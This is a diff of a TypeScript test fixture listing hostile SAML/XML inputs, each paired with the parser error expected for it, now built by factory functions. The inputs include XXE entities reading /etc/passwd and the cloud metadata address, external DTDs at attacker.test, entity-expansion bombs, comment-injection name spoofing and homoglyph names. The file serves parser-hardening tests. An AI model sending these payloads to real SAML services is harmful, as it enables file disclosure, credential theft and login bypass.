@@ -1,158 +1,108 @@
-import { aResponse } from '../../support/saml-responses.ts';
-import { assertion, genuine } from './genuine-responses.ts';
-import { type HostileResponse, hostile, rules } from './hostile-response.ts';
+import type { ForgedAssertion } from './forged-assertions.ts';
+import { rules } from './hostile-response.ts';
 
-const named = (name: string) => aResponse(assertion.replace('>agent1<', `>${name}<`));
-const xml = genuine.assertion;
-const bytes = (what: string, buffer: Buffer, rule: string): HostileResponse => ({ what, parameter: buffer.toString('base64'), rule });
-const parameter = (what: string, text: string, rule: string): HostileResponse => ({ what, parameter: text, rule });
-const base64 = Buffer.from(xml).toString('base64');
-const expansion = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
-const noBase64 = 'encoding: expected base64';
-const notUtf8 = 'encoding: expected UTF-8';
+/** A document with a signed assertion about agent1. */
+interface Material {
+  xml: string;
+  /** The same with another name. */
+  named(name: string): string;
+}
+
 const oneElement = 'document: expected one element';
 const characters = 'characters: expected those of XML 1.0';
-const within = (text: string) => aResponse(assertion.replace('</Assertion>', `${text}</Assertion>`));
+const expansion = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
+const forged = (what: string, make: (of: Material) => string, rule: string | RegExp) => ({ what, make, rule });
 
-/** Markup that has ever made two readers of a document disagree. */
-export const hostileMarkup: readonly HostileResponse[] = [
-  hostile('a comment cuts the name', named('agent1<!-- -->.evil.test'), rules.markup),
-  hostile('a comment stands before the name', named('<!-- -->agent1'), rules.markup),
-  hostile('a comment stands in the signature', xml.replace('<DigestValue>', '<DigestValue><!-- -->'), rules.markup),
-  hostile('a comment stands between elements', xml.replace('<Subject>', '<!-- --><Subject>'), rules.markup),
-  hostile('a comment stands before the response', `<!-- -->${xml}`, rules.markup),
-  hostile('a comment follows the response', `${xml}<!-- -->`, rules.markup),
-  hostile('CDATA is the name', named('<![CDATA[agent1]]>'), rules.markup),
-  hostile('CDATA is a part of the name', named('agent<![CDATA[1]]>'), rules.markup),
-  hostile('an end of CDATA stands in the name', named('agent1]]>'), 'markup: expected no end of CDATA'),
-  hostile('a processing instruction cuts the name', named('agent1<?x?>.evil.test'), rules.instruction),
-  hostile('a style sheet is named', `<?xml-stylesheet href="https://attacker.test/x.xsl"?>${xml}`, rules.instruction),
-  hostile('there is a document type', `<!DOCTYPE Response>${xml}`, rules.markup),
-  hostile('there is a document type in small letters', `<!doctype Response>${xml}`, rules.markup),
-  hostile('the document type says what an id is', `<!DOCTYPE Response [<!ATTLIST Subject Id ID #IMPLIED>]>${xml}`, rules.markup),
-  hostile('the document type has an attribute by default', `<!DOCTYPE Response [<!ATTLIST NameID Format CDATA "x">]>${xml}`, rules.markup),
-  hostile('an entity is the name', `<!DOCTYPE Response [<!ENTITY n "agent1">]>${named('&n;')}`, rules.markup),
-  hostile('entities of entities grow', `<!DOCTYPE r [<!ENTITY l0 "ha">${expansion}]>${named('&l9;')}`, rules.markup),
-  hostile(
+const markups = [
+  forged('a comment cuts the name', (of) => of.named('agent1<!-- -->.evil.test'), rules.markup),
+  forged('a comment stands before the name', (of) => of.named('<!-- -->agent1'), rules.markup),
+  forged('a comment stands in the signature', (of) => of.xml.replace('<DigestValue>', '<DigestValue><!-- -->'), rules.markup),
+  forged('a comment stands between elements', (of) => of.xml.replace('<Subject>', '<!-- --><Subject>'), rules.markup),
+  forged('a comment stands before the response', (of) => `<!-- -->${of.xml}`, rules.markup),
+  forged('a comment follows the response', (of) => `${of.xml}<!-- -->`, rules.markup),
+  forged('CDATA is the name', (of) => of.named('<![CDATA[agent1]]>'), rules.markup),
+  forged('CDATA is a part of the name', (of) => of.named('agent<![CDATA[1]]>'), rules.markup),
+  forged('an end of CDATA stands in the name', (of) => of.named('agent1]]>'), 'markup: expected no end of CDATA'),
+  forged('a processing instruction cuts the name', (of) => of.named('agent1<?x?>.evil.test'), rules.instruction),
+  forged('a style sheet is named', (of) => `<?xml-stylesheet href="https://attacker.test/x.xsl"?>${of.xml}`, rules.instruction),
+  forged('there is a document type', (of) => `<!DOCTYPE Response>${of.xml}`, rules.markup),
+  forged('there is a document type in small letters', (of) => `<!doctype Response>${of.xml}`, rules.markup),
+  forged('the document type says what an id is', (of) => `<!DOCTYPE Response [<!ATTLIST Subject Id ID #IMPLIED>]>${of.xml}`, rules.markup),
+  forged(
+    'the document type has an attribute by default',
+    (of) => `<!DOCTYPE Response [<!ATTLIST NameID Format CDATA "x">]>${of.xml}`,
+    rules.markup,
+  ),
+  forged('an entity is the name', (of) => `<!DOCTYPE Response [<!ENTITY n "agent1">]>${of.named('&n;')}`, rules.markup),
+  forged('entities of entities grow', (of) => `<!DOCTYPE r [<!ENTITY l0 "ha">${expansion}]>${of.named('&l9;')}`, rules.markup),
+  forged(
     'one entity is used very often',
-    `<!DOCTYPE r [<!ENTITY e "${'x'.repeat(50_000)}">]>${named('&e;'.repeat(20_000))}`,
+    (of) => `<!DOCTYPE r [<!ENTITY e "${'x'.repeat(10_000)}">]>${of.named('&e;'.repeat(10_000))}`,
     rules.markup,
   ),
-  hostile('an entity is a file', `<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>${named('&f;')}`, rules.markup),
-  hostile('an entity is elsewhere', `<!DOCTYPE r [<!ENTITY f SYSTEM "http://169.254.169.254/latest">]>${named('&f;')}`, rules.markup),
-  hostile(
+  forged('an entity is a file', (of) => `<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>${of.named('&f;')}`, rules.markup),
+  forged(
+    'an entity is elsewhere',
+    (of) => `<!DOCTYPE r [<!ENTITY f SYSTEM "http://169.254.169.254/latest">]>${of.named('&f;')}`,
+    rules.markup,
+  ),
+  forged(
     'an entity of parameters is elsewhere',
-    `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attacker.test/x.dtd"> %p;]>${xml}`,
+    (of) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attacker.test/x.dtd"> %p;]>${of.xml}`,
     rules.markup,
   ),
-  hostile('the document type is elsewhere', `<!DOCTYPE r SYSTEM "https://attacker.test/x.dtd">${xml}`, rules.markup),
-  hostile('an entity of HTML is in the name', named('&nbsp;agent1'), rules.entities),
-  hostile('an entity without an end is in the name', named('agent1&amp'), rules.entities),
-  hostile('an ampersand stands alone', named('agent1 & co'), rules.entities),
-  hostile('NUL is there by number', named('agent1&#0;'), rules.entities),
-  hostile('half a character is there by number', named('agent1&#xd800;'), rules.entities),
-  hostile('a number beyond Unicode is there', named('agent1&#xffffff;'), rules.entities),
-  hostile('a very long number is there', named(`agent1&#${'1'.repeat(50_000)};`), rules.entities),
-  hostile('NUL is in the name', named('agent1\0'), characters),
-  hostile('a control character is in the name', named('agent1\u0008'), characters),
-  hostile('no character is in the name', named('agent1\uffff'), characters),
-  hostile('the name is by numbers, and another', named('&#x61;dmin'), rules.otherAssertion),
-  hostile('a space follows the name', named('agent1 '), rules.otherAssertion),
-  hostile('a line ends in the name', named('agent1\n'), rules.otherAssertion),
-  hostile('a space that nobody sees follows the name', named('agent1\u200b'), rules.otherAssertion),
-  hostile('a letter that only looks the same is in the name', named('аgent1'), rules.otherAssertion),
-  hostile('the name is composed in another way', named('a\u0301gent1'), rules.otherAssertion),
-  hostile('an element is in the name', named('agent1<x/>'), rules.otherAssertion),
-  hostile('the name is empty', named(''), rules.otherAssertion),
-  hostile(
+  forged('the document type is elsewhere', (of) => `<!DOCTYPE r SYSTEM "https://attacker.test/x.dtd">${of.xml}`, rules.markup),
+  forged('an entity of HTML is in the name', (of) => of.named('&nbsp;agent1'), rules.entities),
+  forged('an entity without an end is in the name', (of) => of.named('agent1&amp'), rules.entities),
+  forged('an ampersand stands alone', (of) => of.named('agent1 & co'), rules.entities),
+  forged('NUL is there by number', (of) => of.named('agent1&#0;'), rules.entities),
+  forged('half a character is there by number', (of) => of.named('agent1&#xd800;'), rules.entities),
+  forged('a number beyond Unicode is there', (of) => of.named('agent1&#xffffff;'), rules.entities),
+  forged('a very long number is there', (of) => of.named(`agent1&#${'1'.repeat(50_000)};`), rules.entities),
+  forged('NUL is in the name', (of) => of.named('agent1\0'), characters),
+  forged('a control character is in the name', (of) => of.named('agent1\u0008'), characters),
+  forged('no character is in the name', (of) => of.named('agent1\uffff'), characters),
+  forged('the name is by numbers, and another', (of) => of.named('&#x61;dmin'), rules.otherAssertion),
+  forged('a space follows the name', (of) => of.named('agent1 '), rules.otherAssertion),
+  forged('a line ends in the name', (of) => of.named('agent1\n'), rules.otherAssertion),
+  forged('a space that nobody sees follows the name', (of) => of.named('agent1\u200b'), rules.otherAssertion),
+  forged('a letter that only looks the same is in the name', (of) => of.named('аgent1'), rules.otherAssertion),
+  forged('the name is composed in another way', (of) => of.named('a\u0301gent1'), rules.otherAssertion),
+  forged('an element is in the name', (of) => of.named('agent1<x/>'), rules.otherAssertion),
+  forged('the name is empty', (of) => of.named(''), rules.otherAssertion),
+  forged(
     'a prefix has no namespace',
-    aResponse(assertion.replace('<NameID>', '<evil:NameID>').replace('</NameID>', '</evil:NameID>')),
+    (of) => of.xml.replace('<NameID>', '<evil:NameID>').replace('</NameID>', '</evil:NameID>'),
     rules.malformed,
   ),
-  hostile(
+  forged(
     'a name has two colons',
-    aResponse(assertion.replace('<NameID>', '<a:b:NameID>').replace('</NameID>', '</a:b:NameID>')),
+    (of) => of.xml.replace('<NameID>', '<a:b:NameID>').replace('</NameID>', '</a:b:NameID>'),
     rules.malformed,
   ),
-  hostile('an attribute stands twice', xml.replace(' Version=', ' Version="2.0" Version='), rules.malformed),
-  hostile('an attribute has no quotes', xml.replace('Version="2.0"', 'Version=2.0'), rules.malformed),
-  hostile('an attribute has no value', xml.replace('Version="2.0"', 'Version="2.0" x'), rules.malformed),
-  hostile('an attribute has markup in it', xml.replace('Version="2.0"', 'Version="2.0" x="<y>"'), rules.malformed),
-  hostile('an end is missing', xml.replace('</Subject>', ''), rules.malformed),
-  hostile('an end is in other letters', xml.replace('</Subject>', '</subject>'), rules.malformed),
-  hostile('ends are crossed', xml.replace('</Conditions>', '</Subject>').replace('</Subject>', '</Conditions>'), rules.malformed),
-  hostile('it ends in the middle', xml.slice(0, xml.length / 2), oneElement),
-  hostile('it ends in the middle of a tag', `${xml.slice(0, xml.indexOf('</Assertion>'))}>`, rules.malformed),
-  hostile('its last character is missing', xml.slice(0, -1), oneElement),
-  hostile('text follows', `${xml}x`, oneElement),
-  hostile('text stands before it', `x${xml}`, oneElement),
-  hostile('a byte order mark stands before it', `\ufeff${xml}`, oneElement),
-  hostile('it is JSON', '{"Response":{}}', oneElement),
-  hostile('it is HTML', '<html><body>Response</body></html>', rules.noResponse),
-  hostile('it is of version 1.1', `<?xml version="1.1"?>${xml}`, rules.instruction),
-  hostile('it says that it is UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${xml}`, rules.instruction),
-  hostile('it says that it is UTF-16', `<?xml version="1.0" encoding="UTF-16"?>${xml}`, rules.instruction),
-  hostile('it says that it is Latin 1', `<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`, rules.instruction),
-  hostile('it has two declarations', `<?xml version="1.0"?><?xml version="1.0"?>${xml}`, rules.instruction),
-  bytes('it is UTF-16 of small ends', Buffer.from(`\ufeff${xml}`, 'utf16le'), notUtf8),
-  bytes('it is UTF-16 of big ends', Buffer.from(`\ufeff${xml}`, 'utf16le').swap16(), notUtf8),
-  bytes('it is UTF-16 without a mark', Buffer.from(xml, 'utf16le'), oneElement),
-  bytes('it is UTF-7', Buffer.from(xml.replaceAll('<', '+ADw-')), oneElement),
-  bytes('it is Latin 1', Buffer.from(named('ågent1'), 'latin1'), notUtf8),
-  bytes('a character is longer than it need be', Buffer.concat([Buffer.from('<'), Buffer.from([0xc0, 0xbc]), Buffer.from('>')]), notUtf8),
-  bytes(
-    'half a character is in it',
-    Buffer.concat([Buffer.from(xml.slice(0, 500)), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(xml.slice(500))]),
-    notUtf8,
-  ),
-  bytes('it is random', Buffer.from(Array.from({ length: 999 }, (_, index) => (index * 97) % 256)), notUtf8),
-  parameter('there is nothing', '', noBase64),
-  parameter('it is not encoded', xml, noBase64),
-  parameter('it is encoded for addresses', Buffer.from(`${xml}\n<é?>?>>`).toString('base64url'), noBase64),
-  parameter('it is encoded twice', Buffer.from(base64).toString('base64'), oneElement),
-  parameter('it has spaces where plus signs were', base64.replace(/(.{64})/g, '$1 '), noBase64),
-  parameter('its padding is missing', `${base64.replace(/=+$/, '').slice(0, -3)}`, noBase64),
-  parameter('something follows its padding', `${Buffer.from(`${xml}\n`.slice(0, 1)).toString('base64')}AAAA`, noBase64),
-  parameter('its padding is in the middle', `${Buffer.from('<').toString('base64')}${base64}`, noBase64),
-  parameter('a character of no alphabet is in it', `${base64.slice(0, 99)}*${base64.slice(100)}`, noBase64),
-  parameter('it is encoded for an address', encodeURIComponent(`${base64}+/==`), noBase64),
-  parameter('it is an address with data', `data:text/xml;base64,${base64}`, noBase64),
-  hostile('very many elements are in it', within('<x/>'.repeat(20_000)), 'size: expected at most 500 elements'),
-  hostile(
-    'very many attributes are in it',
-    within(`<x ${Array.from({ length: 20_000 }, (_, index) => `a${index}=""`).join(' ')}/>`),
-    'size: expected at most 1000 attributes',
-  ),
-  hostile(
-    'very many namespaces are in it',
-    within(`<x ${Array.from({ length: 5000 }, (_, index) => `xmlns:a${index}="u"`).join(' ')}/>`),
-    'size: expected at most 1000 attributes',
-  ),
-  hostile(
-    'as many attributes are in it as may be',
-    within(`<x ${Array.from({ length: 930 }, (_, index) => `a${index}=""`).join(' ')}/>`),
-    rules.otherAssertion,
-  ),
-  hostile(
-    'as many namespaces are in it as may be',
-    within(Array.from({ length: 400 }, (_, index) => `<x xmlns:a${index}="u"/>`).join('')),
-    rules.otherAssertion,
-  ),
-  hostile(
-    'as many signatures are in it as may be',
-    within('<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>'.repeat(400)),
-    'signature: expected one, there are 401',
-  ),
-  hostile('it is very deep', within('<x>'.repeat(400) + '</x>'.repeat(400)), 'depth: expected at most 32'),
-  hostile('it is deeper than any stack', '<x>'.repeat(80_000), 'size: expected at most 500 elements'),
-  hostile('it is as deep as its size lets it be', `${'<x>'.repeat(499)}${'</x>'.repeat(499)}`, 'depth: expected at most 32'),
-  hostile('it is too large', within(`<x>${'x'.repeat(262_144)}</x>`), /^size: expected at most 262144 bytes/),
-  hostile('it is as large as may be', within(`<x>${'x'.repeat(250_000)}</x>`), rules.otherAssertion),
-  hostile('it has very many entities', within(`<x>${'&lt;'.repeat(60_000)}</x>`), 'size: expected at most 2000 references to characters'),
-  hostile('it has as many entities as may be', within(`<x>${'&lt;'.repeat(2000)}</x>`), rules.otherAssertion),
-  hostile('it is a large space', `<x>${' '.repeat(250_000)}</x>`, rules.noResponse),
-  hostile('spaces follow it', `${xml}${' '.repeat(200_000)}x`, oneElement),
-  hostile('a name is very long', `<${'x'.repeat(200_000)}/>`, rules.noResponse),
-  hostile('a tag never ends', `<x ${'a '.repeat(100_000)}>`, rules.malformed),
-  parameter('its encoding is too long', 'A'.repeat(2_000_000), 'size: expected at most 262144 bytes'),
+  forged('an attribute stands twice', (of) => of.xml.replace(' Version=', ' Version="2.0" Version='), rules.malformed),
+  forged('an attribute has no quotes', (of) => of.xml.replace('Version="2.0"', 'Version=2.0'), rules.malformed),
+  forged('an attribute has no value', (of) => of.xml.replace('Version="2.0"', 'Version="2.0" x'), rules.malformed),
+  forged('an attribute has markup in it', (of) => of.xml.replace('Version="2.0"', 'Version="2.0" x="<y>"'), rules.malformed),
+  forged('an end is missing', (of) => of.xml.replace('</Subject>', ''), rules.malformed),
+  forged('an end is in other letters', (of) => of.xml.replace('</Subject>', '</subject>'), rules.malformed),
+  forged('ends are crossed', (of) => of.xml.replace('</Conditions>', '</Subject>').replace('</Subject>', '</Conditions>'), rules.malformed),
+  forged('it ends in the middle', (of) => of.xml.slice(0, of.xml.length / 2), oneElement),
+  forged('it ends in the middle of a tag', (of) => `${of.xml.slice(0, of.xml.indexOf('</Assertion>'))}>`, rules.malformed),
+  forged('its last character is missing', (of) => of.xml.slice(0, -1), oneElement),
+  forged('text follows', (of) => `${of.xml}x`, oneElement),
+  forged('text stands before it', (of) => `x${of.xml}`, oneElement),
+  forged('a byte order mark stands before it', (of) => `\ufeff${of.xml}`, oneElement),
+  forged('it is JSON', () => '{"Response":{}}', oneElement),
+  forged('it is of version 1.1', (of) => `<?xml version="1.1"?>${of.xml}`, rules.instruction),
+  forged('it says that it is UTF-7', (of) => `<?xml version="1.0" encoding="UTF-7"?>${of.xml}`, rules.instruction),
+  forged('it says that it is UTF-16', (of) => `<?xml version="1.0" encoding="UTF-16"?>${of.xml}`, rules.instruction),
+  forged('it says that it is Latin 1', (of) => `<?xml version="1.0" encoding="ISO-8859-1"?>${of.xml}`, rules.instruction),
+  forged('it has two declarations', (of) => `<?xml version="1.0"?><?xml version="1.0"?>${of.xml}`, rules.instruction),
 ];
+
+/** Markup that has ever made two readers disagree, in a document with a signed assertion about agent1. */
+export function hostileMarkup(xml: string): ForgedAssertion[] {
+  const named = (name: string) => xml.replace('>agent1<', `>${name}<`);
+  return markups.map(({ what, make, rule }) => ({ what, xml: make({ xml, named }), rule }));
+}
